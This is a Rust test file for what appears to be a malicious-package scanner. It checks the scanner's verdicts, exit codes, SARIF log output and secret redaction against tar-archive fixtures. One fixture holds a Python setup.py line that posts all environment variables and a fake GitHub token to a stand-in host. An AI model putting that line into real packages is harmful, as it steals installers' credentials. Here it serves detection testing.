use std::fs;
use std::path::Path;

use fanlight_scan::{RuleSet, Verdict};
use serde_json::Value;

use super::*;
use crate::cli::tests::shown;

const STEALS: &str =
    "import os, requests\nrequests.post('https://c.example.invalid', headers={'t': 'SECRET'}, json=dict(os.environ))\n";

/// A tar archive of one setup.py.
fn archive(folder: &Path, name: &str, setup: &str) {
    let mut archive = tar::Builder::new(fs::File::create(folder.join(name)).unwrap());
    let mut header = tar::Header::new_ustar();
    header.set_size(setup.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    archive.append_data(&mut header, "a-1.0/setup.py", setup.as_bytes()).unwrap();
    archive.finish().unwrap();
}

fn folder() -> tempfile::TempDir {
    let folder = tempfile::tempdir().unwrap();
    archive(folder.path(), "bad-1.0.tar", &STEALS.replace("SECRET", &format!("ghp_{}", "a1B2c3D4e5".repeat(4))));
    archive(folder.path(), "good-1.0.tar", "from setuptools import setup\nsetup(name='a')\n");
    fs::write(folder.path().join("notes.txt"), "not an archive").unwrap();
    folder
}

fn looked(folder: &Path) -> Vec<Looked> {
    let archives = targets::find(&[folder.display().to_string()]).unwrap();
    let mut looked = read::all(&archives, &RuleSet::default(), None);
    for one in &mut looked {
        one.path = one.path.rsplit('/').next().unwrap().to_owned();
    }
    looked
}

#[test]
fn a_folder_is_looked_into_in_order_and_shown() {
    let folder = folder();
    let looked = looked(folder.path());
    let verdicts: Vec<_> = looked.iter().map(|one| one.report.as_ref().unwrap().verdict).collect();
    assert_eq!(verdicts, [Verdict::Unsafe, Verdict::NothingFound]);
    let text = shown(|screen| show::people(screen, &looked, false, std::time::Duration::from_millis(1200)));
    insta::assert_snapshot!(text);
    assert!(!text.contains("ghp_a1B2"), "no secret is shown");
}

#[test]
fn the_exit_code_follows_the_gravest_finding() {
    let folder = folder();
    let looked = looked(folder.path());
    let met =
        |fail_on: FailOn| looked.iter().map(|one| fail_on.is_met_by(one.report.as_ref().unwrap())).collect::<Vec<_>>();
    for fail_on in [FailOn::Low, FailOn::Medium, FailOn::High, FailOn::Critical] {
        assert_eq!(met(fail_on), [true, false], "{fail_on:?}");
    }
    assert_eq!(met(FailOn::Never), [false, false]);
}

#[test]
fn what_cannot_be_read_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let failure = targets::find(&[folder.path().display().to_string()]).unwrap_err();
    assert!(failure.words().contains("holds no archive"), "{}", failure.words());
    let failure = targets::find(&["no/such/thing.whl".to_owned()]).unwrap_err();
    assert!(failure.words().starts_with("no/such/thing.whl could not be read"), "{}", failure.words());
    assert_eq!(failure.exit_code(), Exit::NotDone);
}

/// What the schema of SARIF 2.1.0 asks of the parts that are used here: names, types, words, numbers. The whole schema is
/// not in the repository; docs/scan.md says how the output was held against it.
#[test]
fn the_log_is_sarif() {
    let folder = folder();
    let log = sarif::log(&looked(folder.path()));
    assert_eq!((&log["version"], log["runs"].as_array().unwrap().len()), (&Value::from("2.1.0"), 1));
    let run = &log["runs"][0];
    only(run, &["tool", "invocations", "artifacts", "results", "columnKind"]);
    assert!(run["columnKind"] == "utf16CodeUnits" || run["columnKind"] == "unicodeCodePoints");
    let driver = &run["tool"]["driver"];
    only(driver, &["name", "semanticVersion", "rules"]);
    let rules = driver["rules"].as_array().unwrap();
    for rule in rules {
        only(rule, &["id", "name", "shortDescription", "fullDescription", "help"]);
        for text in ["shortDescription", "fullDescription", "help"] {
            assert!(rule[text]["text"].is_string());
        }
    }
    let ids: std::collections::BTreeSet<_> = rules.iter().map(|rule| rule["id"].as_str().unwrap()).collect();
    assert_eq!(ids.len(), rules.len(), "each rule once");
    assert_eq!(run["invocations"][0]["executionSuccessful"], true);
    let artifacts = run["artifacts"].as_array().unwrap();
    for artifact in artifacts {
        only(artifact, &["location", "parentIndex"]);
        assert!(artifact["parentIndex"].as_u64().is_none_or(|parent| parent < artifacts.len() as u64));
    }
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for result in results {
        let names =
            ["ruleId", "ruleIndex", "level", "rank", "message", "locations", "partialFingerprints", "properties"];
        only(result, &names);
        let rule = &rules[usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap()];
        assert_eq!(rule["id"], result["ruleId"]);
        assert!(["none", "note", "warning", "error"].contains(&result["level"].as_str().unwrap()));
        assert!((0.0..=100.0).contains(&result["rank"].as_f64().unwrap()));
        assert!(result["partialFingerprints"].as_object().unwrap().values().all(Value::is_string));
        let place = &result["locations"][0]["physicalLocation"];
        only(place, &["artifactLocation", "region"]);
        let at = usize::try_from(place["artifactLocation"]["index"].as_u64().unwrap()).unwrap();
        assert_eq!(artifacts[at]["location"]["uri"], place["artifactLocation"]["uri"]);
        assert!(place["region"].is_null() || place["region"]["startLine"].as_u64().unwrap() >= 1);
    }
    assert!(!log.to_string().contains("ghp_a1B2"), "no secret is written");
}

#[track_caller]
fn only(value: &Value, names: &[&str]) {
    for name in value.as_object().unwrap().keys() {
        assert!(names.contains(&name.as_str()), "{name} is not looked at by this test");
    }
}

#[test]
fn a_release_is_told_from_an_archive() {
    for release in ["pkg:pypi/requests@2.32.0", "PKG:npm/left-pad", "requests==2.32.0"] {
        assert!(releases::is_release(release), "{release}");
    }
    let here = tempfile::tempdir().unwrap();
    let folder = here.path().join("a==b");
    std::fs::create_dir(&folder).unwrap();
    for archive in ["demo-1.0.tar.gz", "./pkg", &folder.display().to_string()] {
        assert!(!releases::is_release(archive), "{archive}");
    }
}
